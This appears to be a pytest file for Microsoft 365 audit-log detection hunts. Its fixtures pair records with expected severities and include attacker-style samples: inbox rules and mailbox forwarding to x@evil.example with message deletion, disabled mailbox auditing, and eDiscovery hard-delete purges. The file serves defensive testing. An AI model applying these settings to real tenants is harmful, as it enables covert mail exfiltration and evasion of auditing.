"""Forwarding, rights, auditing, consent, eDiscovery and sending in Microsoft 365: what is reported, and what is not."""

from __future__ import annotations

import pytest

from tests.queries.audited import ALICE, BOB, Record, at, cmdlet, found, pairs, record

SCOPE = "ConsentAction.Permissions"
INBOX = {"ParentFolder": {"Path": "\\Inbox", "MemberUpn": BOB, "MemberRights": "ReadAny, Visible"}}


def consent(scope: str, operation: str = "Consent to application.", admin: str = "False", before: str = "") -> Record:
    changed = [
        {"Name": SCOPE, "NewValue": f"[[Id: x, Scope: {scope}]]", "OldValue": before},
        {"Name": "ConsentContext.IsAdminConsent", "NewValue": admin, "OldValue": ""},
    ]
    return record(operation, 8, ObjectId="App", ModifiedProperties=changed)


def rule(actions: str, name: str = "news") -> Record:
    return record(
        "UpdateInboxRules", 2, OperationProperties=pairs(RuleName=name, RuleActions=actions), MailboxOwnerUPN=ALICE
    )


FORWARD, DELETE = '{"ActionType":"Forward","Recipients":["x@evil.example"]}', '{"ActionType":"Delete"}'

# By hunt: records and what is owed for each of them alone; None: no finding.
CASES: dict[str, list[tuple[Record, str | None]]] = {
    "mail-audit-forwarding": [
        (
            cmdlet("New-InboxRule", parameters={"Name": ".", "ForwardTo": "x@evil.example", "DeleteMessage": "True"}),
            "high",
        ),
        (cmdlet("New-InboxRule", parameters={"Name": "news", "MoveToFolder": "News"}), None),
        (cmdlet("Set-Mailbox", parameters={"Identity": "bob", "ForwardingSmtpAddress": "smtp:x@evil.example"}), "high"),
        (cmdlet("Set-Mailbox", parameters={"Identity": "bob", "ForwardingSmtpAddress": ""}), None),
        (cmdlet("Set-Mailbox", parameters={"Identity": "bob", "Office": "2"}), None),
        (rule(f"[{FORWARD}]"), "medium"),
        (rule(f"[{FORWARD},{DELETE}]"), "high"),
        (rule('[{"ActionType":"Forward","Recipients":["bob@contoso.example"]}]'), "medium"),
        (rule(f"[{DELETE}]", name=".."), "high"),
        (rule('[{"ActionType":"MoveToFolder","Folder":"Projects"}]'), None),
    ],
    "mail-audit-permission": [
        (
            cmdlet(
                "Add-MailboxPermission", parameters={"Identity": "bob", "User": "carol", "AccessRights": "FullAccess"}
            ),
            "low",
        ),
        (
            cmdlet(
                "Add-MailboxPermission", parameters={"Identity": "bob", "User": "alice", "AccessRights": "FullAccess"}
            ),
            "high",
        ),
        (
            cmdlet(
                "Add-RecipientPermission", parameters={"Identity": "bob", "Trustee": "carol", "AccessRights": "SendAs"}
            ),
            "low",
        ),
        (
            cmdlet("New-ManagementRoleAssignment", parameters={"Role": "ApplicationImpersonation", "User": "svc"}),
            "medium",
        ),
        (cmdlet("New-ManagementRoleAssignment", parameters={"Role": "View-Only Recipients", "User": "svc"}), None),
        (cmdlet("Remove-MailboxPermission", parameters={"Identity": "bob", "User": "carol"}), None),
        (record("AddFolderPermissions", 2, Item=INBOX), "low"),
        (
            record("AddFolderPermissions", 2, Item={"ParentFolder": {**INBOX["ParentFolder"], "MemberUpn": "Default"}}),
            "medium",
        ),
        (
            record("AddFolderPermissions", 2, Item={"ParentFolder": {**INBOX["ParentFolder"], "Path": "\\Calendar"}}),
            None,
        ),
    ],
    "mail-audit-off": [
        (
            cmdlet("Set-MailboxAuditBypassAssociation", parameters={"Identity": "svc", "AuditBypassEnabled": "True"}),
            "high",
        ),
        (cmdlet("Set-AdminAuditLogConfig", parameters={"UnifiedAuditLogIngestionEnabled": "False"}), "high"),
        (cmdlet("Set-Mailbox", parameters={"Identity": "bob", "AuditEnabled": "False"}), "medium"),
        (cmdlet("Set-Mailbox", parameters={"Identity": "bob", "AuditEnabled": "True"}), None),
    ],
    "mail-audit-consent": [
        (consent("Mail.Read offline_access"), "medium"),
        (consent("Mail.Read Mail.Send"), "high"),
        (consent("Mail.Read", admin="True"), "high"),
        (consent("full_access_as_app", "Add app role assignment to service principal."), "high"),
        (consent("Mail.ReadBasic"), "low"),
        (consent("User.Read openid"), None),
        (consent("User.Read", before="Mail.Read"), None),
        (consent("Mail.Read", "Remove app role assignment from service principal."), None),
    ],
    "mail-audit-ediscovery": [
        (record("SearchCreated", 24, ObjectId="s", Query="invoice"), "low"),
        (record("SearchCreated", 24, ObjectId="s", Query="password"), "high"),
        (record("SearchExported", 24, ObjectId="s"), "medium"),
        (record("SearchExportDownloaded", 24, ObjectId="s"), "high"),
        (record("CaseAdded", 24, ObjectId="c"), None),
        (
            cmdlet("New-ComplianceSearchAction", parameters={"SearchName": "s", "Export": "True"}) | {"RecordType": 18},
            "medium",
        ),
        (
            record(
                "New-ComplianceSearchAction", 18, Parameters='-SearchName "s" -Purge "True" -PurgeType "HardDelete"'
            ),
            "medium",
        ),
        (cmdlet("Get-ComplianceSearch", parameters={"Identity": "s"}) | {"RecordType": 18}, None),
    ],
    "mail-audit-sending": [
        (record("SendAs", 2, MailboxOwnerUPN=BOB, SendAsUserSmtp=BOB), "informational"),
        (record("SendOnBehalf", 2, SendOnBehalfOfUserSmtp=BOB, ClientInfoString="Client=REST;python"), "high"),
        (record("Send", 2, MailboxOwnerUPN=ALICE), None),
    ],
}


@pytest.mark.parametrize("name", CASES)
def test_each_record_has_its_weight(name: str) -> None:
    cases = CASES[name]
    rows = found(name, *(one | {"CreationTime": at(60 * n)} for n, (one, _) in enumerate(cases)))
    told = {f"{row['start']:%Y-%m-%dT%H:%M:%S}": row["severity"] for row in rows}
    assert len(told) == len(rows)
    assert [told.get(at(60 * n)) for n in range(len(cases))] == [owed for _, owed in cases]


def test_findings_of_the_same_second_stay_apart() -> None:
    rows = found("mail-audit-ediscovery", *(record("SearchExported", 24, ObjectId=name) for name in "abc"))
    assert len({row["finding_id"] for row in rows}) == 3
    assert [row["n_events"] for row in rows] == [1, 1, 1]


def test_failed_acts_are_attempts() -> None:
    done = cmdlet("Set-Mailbox", parameters={"Identity": "bob", "ForwardingSmtpAddress": "x@evil.example"})
    (row,) = found("mail-audit-forwarding", done | {"ResultStatus": "False"})
    assert (row["severity"], row["reason"].endswith("an attempt: it failed")) == ("medium", True)


def test_fifty_mails_sent_at_once_are_a_burst() -> None:
    sent = [record("Send", 2, n, MailboxOwnerUPN=ALICE, Item={"InternetMessageId": f"<{n}>"}) for n in range(50)]
    (row,) = found("mail-audit-sending", *sent)
    assert (row["severity"], row["n_events"], row["action"]) == ("medium", 50, "Send")
    assert found("mail-audit-sending", *sent[1:]) == []
